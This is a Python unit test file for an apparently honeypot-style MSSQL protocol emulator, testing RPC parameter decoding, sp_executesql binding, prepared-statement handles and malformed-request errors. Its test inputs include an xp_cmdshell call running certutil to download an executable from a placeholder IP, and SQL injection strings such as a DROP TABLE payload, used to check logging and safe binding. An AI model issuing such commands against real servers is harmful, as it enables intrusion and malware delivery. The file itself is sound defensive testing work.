"""MSSQL RPC requests fed as bytes: decoding each type, sp_executesql and the prepare
family, other procedures, malformed requests and the bounds."""

from __future__ import annotations

import struct
from decimal import Decimal

from muscipula.machine import Close
from muscipula.protocols.mssql import int_param, login7, nvarchar_param, rpc_param
from muscipula.protocols.mssql import rpc as R
from muscipula.protocols.mssql import rpc_request as rpc
from muscipula.protocols.mssql import tds as T
from tests.unit.test_mssql import PEER, emits, logged_in, make, send, text


def u(s: str) -> bytes:
    return s.encode("utf-16-le")


def number(out: bytes, at: int = 0) -> int:
    """The error number of the ERROR token at `at`."""
    assert out[at] == 0xAA
    return struct.unpack_from("<i", out, at + 3)[0]


def executesql(stmt: str, definition: str, *values: bytes) -> bytes:
    return rpc(10, nvarchar_param("", stmt), nvarchar_param("", definition), *values)


def doneproc(status: int = 0) -> bytes:
    return T.done(status, 0, 0xE0, 0x74, kind=0xFE)


def test_every_client_type_decodes():
    coll = T.COLLATION
    plp = (struct.pack("<Q", 0xFFFFFFFFFFFFFFFE) + struct.pack("<I", 4) + u("ab")
           + struct.pack("<I", 2) + u("c") + struct.pack("<I", 0))
    dt = struct.pack("<iI", 45000, 300 * 3600)  # 2023-03-17 01:00:00
    params = [
        rpc_param("@i1", b"\x30", b"\xff"), rpc_param("@i2", b"\x34", struct.pack("<h", -2)),
        rpc_param("@i4", b"\x38", struct.pack("<i", -4)),
        rpc_param("@i8", b"\x7f", struct.pack("<q", 2**40)),
        rpc_param("@bit", b"\x68\x01", b"\x01\x01"),
        rpc_param("@f", b"\x6d\x08", b"\x08" + struct.pack("<d", 1.5)),
        rpc_param("@dec", b"\x6a\x11\x0a\x02", b"\x05\x01" + struct.pack("<I", 12345)),
        rpc_param("@dt", b"\x6f\x08", b"\x08" + dt),
        rpc_param("@d2", b"\x2a\x07", b"\x08" + (10**7 * 61).to_bytes(5, "little")
                  + (738000).to_bytes(3, "little")),
        rpc_param("@date", b"\x28", b"\x03" + (738000).to_bytes(3, "little")),
        rpc_param("@bin", b"\xa5" + struct.pack("<H", 8000), struct.pack("<H", 2) + b"\x00'"),
        rpc_param("@vc", b"\xa7" + struct.pack("<H", 8000) + coll, struct.pack("<H", 3) + b"abc"),
        rpc_param("@nc", b"\xef" + struct.pack("<H", 20) + coll, struct.pack("<H", 4) + u("é☃")),
        rpc_param("@max", b"\xe7\xff\xff" + coll, plp),
        rpc_param("@maxnull", b"\xe7\xff\xff" + coll, struct.pack("<Q", 2**64 - 1)),
        rpc_param("@null", b"\x26\x08", b"\x00"),
        rpc_param("@nvnull", b"\xe7" + struct.pack("<H", 100) + coll, b"\xff\xff"),
        rpc_param("@guid", b"\x24\x10", b"\x10" + bytes(range(16))),
        rpc_param("@money", b"\x6e\x08", b"\x08" + struct.pack("<iI", 0, 25000)),
    ]
    (call,) = R.parse(rpc("p", *params, headers=False))
    got = {p.name: p.value for p in call.params}
    assert got == {
        "@i1": 255, "@i2": -2, "@i4": -4, "@i8": 2**40, "@bit": True, "@f": 1.5,
        "@dec": Decimal("123.45"), "@dt": "2023-03-17 01:00:00.000",
        "@d2": "2021-07-30 00:01:01", "@date": "2021-07-30", "@bin": b"\x00'", "@vc": "abc",
        "@nc": "é☃", "@max": "abc", "@maxnull": None, "@null": None, "@nvnull": None,
        "@guid": "03020100-0504-0706-0809-0A0B0C0D0E0F", "@money": Decimal("2.5000")}
    assert R.literal(got["@bin"]) == "0x0027" and R.literal("o'k") == "N'o''k'"


def test_sp_executesql_binds_values_and_ends_with_returnstatus_and_doneproc(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    acts = send(m, T.RPC, executesql("SELECT @P1 AS a, @p2 AS b, '@P1' AS c, @@SPID AS d",
                                     "@P1 int, @P2 nvarchar(10)", int_param("@P1", 7),
                                     nvarchar_param("@P2", "it's")))
    out = text(acts)
    assert out[0] == 0x81 and b"\x04\x07\x00\x00\x00" in out and u("it's") in out
    assert u("@P1") in out  # a string is left alone
    assert out.endswith(T.done(T.DONE_COUNT | T.DONE_MORE, 1, 0xC1, 0x74, kind=0xFF)
                        + T.return_status(0) + doneproc())
    assert emits(acts, "mssql.command") == [{"status": "complete", "cmd": (
        "exec sp_executesql N'SELECT @P1 AS a, @p2 AS b, ''@P1'' AS c, @@SPID AS d', "
        "N'@P1 int, @P2 nvarchar(10)', @P1=7, @P2=N'it''s'")}]


def test_quoted_values_stay_values(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    send(m, T.SQL_BATCH, b"\x16\0\0\0\x12\0\0\0\x02\0" + bytes(12)
         + u("CREATE TABLE t (a NVARCHAR(40))"))
    evil = "x'); DROP TABLE t; --"
    out = text(send(m, T.RPC, executesql("INSERT INTO t VALUES (@v)", "@v nvarchar(40)",
                                         nvarchar_param("@v", evil))))
    assert T.done(T.DONE_COUNT | T.DONE_MORE, 1, 0xC1, 0x74, kind=0xFF) in out
    out = text(send(m, T.RPC, executesql("SELECT a FROM t WHERE a = @v", "@v nvarchar(40)",
                                         nvarchar_param("", evil))))  # positional
    assert u(evil) in out and b"\xaa" not in out


def test_nulls_and_missing_parameters(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    out = text(send(m, T.RPC, executesql("SELECT CASE WHEN @a IS NULL THEN 1 ELSE 0 END",
                                         "@a int", int_param("@a", None))))
    assert b"\x04\x01\x00\x00\x00" in out
    out = text(send(m, T.RPC, executesql("SELECT @a", "@a int")))
    assert number(out) == 8178 and u("expects the parameter '@a'") in out
    assert out.endswith(doneproc(T.DONE_ERROR))


def test_statement_errors_inside_and_several_calls_in_one_request(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    two = (executesql("SELECT a FROM nosuch WHERE a = @a", "@a int", int_param("@a", 1))
           + b"\xff" + rpc(10, nvarchar_param("", "SELECT 2"), headers=False))
    acts = send(m, T.RPC, two)
    out = text(acts)
    assert number(out) == 208
    assert T.done(T.DONE_ERROR | T.DONE_MORE, 0, 0xC1, 0x74, kind=0xFF) in out
    assert doneproc(T.DONE_MORE | T.DONE_ERROR) in out and out.endswith(doneproc())
    assert len(emits(acts, "mssql.command")) == 2


def test_prepare_execute_unprepare_and_the_handle_bound(tmp_path):
    factory, _ = make(tmp_path, max_prepared=2)
    m, _ = logged_in(factory)
    out = text(send(m, T.RPC, rpc(11, int_param("@handle", None, R.BY_REF),
                                  nvarchar_param("", "@a int"),
                                  nvarchar_param("", "SELECT @a + 1 AS r"))))
    handle_1 = b"\xac\x00\x00" + T.b_varchar("@handle") + b"\x01" + bytes(4) + b"\x01\x00" \
        + b"\x26\x04\x04" + struct.pack("<i", 1)
    assert out == T.return_status(0) + handle_1 + doneproc()
    out = text(send(m, T.RPC, rpc(12, int_param("", 1), int_param("", 41))))
    assert b"\x04\x2a\x00\x00\x00" in out and out.endswith(T.return_status(0) + doneproc())
    out = text(send(m, T.RPC, rpc(13, int_param("", None, R.BY_REF),
                                  nvarchar_param("", "@s nvarchar(9)"),
                                  nvarchar_param("", "SELECT @s"), nvarchar_param("", "hi"))))
    assert u("hi") in out and out.index(b"\x79") < out.index(b"\xac")
    assert struct.pack("<i", 2) + doneproc() == out[-17:]
    send(m, T.RPC, rpc(11, int_param("", None, R.BY_REF), nvarchar_param("", ""),
                       nvarchar_param("", "SELECT 3")))  # handle 3: handle 1 gives way
    assert len(m.procs.handles) == 2
    out = text(send(m, T.RPC, rpc(12, int_param("", 1))))
    assert number(out) == 8179 and u("handle 1.") in out
    out = text(send(m, T.RPC, rpc(15, int_param("", 2))))
    assert out == T.return_status(0) + doneproc()
    assert number(text(send(m, T.RPC, rpc(12, int_param("", 2))))) == 8179


def test_other_procedures_go_the_batch_way(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    acts = send(m, T.RPC, rpc("master..xp_cmdshell", nvarchar_param(
        "@command_string", "certutil -urlcache -f http://198.51.100.3/a.exe a.exe")))
    out = text(acts)
    assert number(out) == 15281 and out.endswith(doneproc(T.DONE_ERROR)[:3] + b"\xc1\x00"
                                                 + bytes(8))
    assert emits(acts, "download.offer")[0]["url"] == "http://198.51.100.3/a.exe"
    out = text(send(m, T.RPC, rpc("sp_databases")))
    assert u("tempdb") in out and out.endswith(T.return_status(0) + doneproc())
    for name in ("sp_nosuch", "x; DROP TABLE t"):
        out = text(send(m, T.RPC, rpc(name)))
        assert number(out) == 2812 and out[7:9] == b"\x3e\x10"  # state 62, class 16
        assert u(f"Could not find stored procedure '{name}'.") in out
        assert out[-13] == 0xFE


def test_tds71_requests_have_no_headers(tmp_path):
    factory, _ = make(tmp_path)
    m = factory(PEER)
    send(m, T.LOGIN7, login7("sa", "pw", tds=b"\x00\x00\x00\x71"))
    req = rpc(10, nvarchar_param("", "SELECT @x"), nvarchar_param("", "@x int"),
              int_param("@x", 9), headers=False)
    out = text(send(m, T.RPC, req))
    assert b"\x04\x09\x00\x00\x00" in out and out.endswith(T.done(0, 0, 0xE0, 0x71, kind=0xFE))


def test_malformed_requests_get_sql_server_errors(tmp_path):
    factory, _ = make(tmp_path, max_protocol_errors=5)
    m, _ = logged_in(factory)
    good = executesql("SELECT @a", "@a int", int_param("@a", 1))
    cases = [
        (good[:-3], 8016),  # the value cut short
        (rpc("p", rpc_param("@v", b"\x62", b"\x00")), 8009),  # sql_variant: not taken
        (rpc("p", rpc_param("@v", b"\x26\x03", b"\x00")), 8016),  # INTN of 3 bytes
        (rpc("p", rpc_param("@v", b"\xe7" + struct.pack("<H", 10) + T.COLLATION,
                            struct.pack("<H", 12) + bytes(12))), 8016),  # over its max
        (rpc("p", *[int_param("", 1)] * (R.MAX_PARAMS + 1)), 8003),
    ]
    for n, (req, code) in enumerate(cases):
        acts = send(m, T.RPC, req)
        if n < len(cases) - 1:
            out = text(acts)
            assert number(out) == code, (n, code)
            assert out.endswith(T.done(T.DONE_ERROR, 0, 0, 0x74))
            assert emits(acts, "protocol.error")
        else:  # the fifth fault in a row: SQL Server's patience is not endless either
            assert any(isinstance(a, Close) for a in acts)
    m2, _ = logged_in(factory)
    out = text(send(m2, T.RPC, b"\x16\0\0\0" + bytes(18) + b"\x05"))
    assert number(out) == 4002


def test_bound_text_past_the_ceiling_is_refused(tmp_path):
    factory, _ = make(tmp_path, max_message=8192)
    m, _ = logged_in(factory)
    stmt = "SELECT " + " + ".join(["@v"] * 60)
    out = text(send(m, T.RPC, executesql(stmt, "@v nvarchar(100)",
                                         nvarchar_param("@v", "x" * 100))))
    assert number(out) == 8623 and out.endswith(doneproc(T.DONE_ERROR))


def test_statement_must_be_unicode(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    vc = rpc_param("", b"\xa7" + struct.pack("<H", 100) + T.COLLATION,
                   struct.pack("<H", 8) + b"SELECT 1")
    out = text(send(m, T.RPC, rpc(10, vc)))
    assert number(out) == 214


def test_prepared_text_is_held_to_a_message_and_counted_as_buffered(tmp_path):
    factory, _ = make(tmp_path, max_message=8192)
    m, _ = logged_in(factory)
    for n in range(4):  # 4 x ~3 KB of statement text: no more than 8 KB is kept
        send(m, T.RPC, rpc(11, int_param("", None, R.BY_REF), nvarchar_param("", ""),
                           nvarchar_param("", f"SELECT {n} -- " + "x" * 1500)))
    assert list(m.procs.handles) == [3, 4]
    assert 6000 < m.procs.held() <= 8192 and m.buffered() >= m.procs.held()
    assert number(text(send(m, T.RPC, rpc(12, int_param("", 2))))) == 8179


def test_binding_touches_only_the_declared_names_in_code():
    from muscipula.protocols.mssql.procs import bind, declared

    assert declared("@a int, @b decimal(10, 2) OUTPUT,@c nvarchar(max)") == ["@a", "@b", "@c"]
    stmt = ("SELECT @A, @@VERSION, '@a', @ab, @table /* @a */ FROM t WHERE x = @a -- @a")
    assert bind(stmt, {"@a": "N'o''k'", "@table": "2"}, 1000) == (
        "SELECT N'o''k', @@VERSION, '@a', @ab, 2 /* @a */ FROM t WHERE x = N'o''k' -- @a")
    assert R.bound_literal("a\x00b") == "CAST(0x610062 AS NVARCHAR)"


def test_datetimeoffset_at_the_ends_of_time_is_answered(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    last = b"\x0a" + (86399 * 10**7).to_bytes(5, "little") + (3652058).to_bytes(3, "little") \
        + struct.pack("<h", 840)  # 9999-12-31 23:59:59 UTC, +14:00: past year 9999 locally
    acts = send(m, T.RPC, rpc("sp_who", rpc_param("@d", b"\x2b\x07", last)))
    assert text(acts)
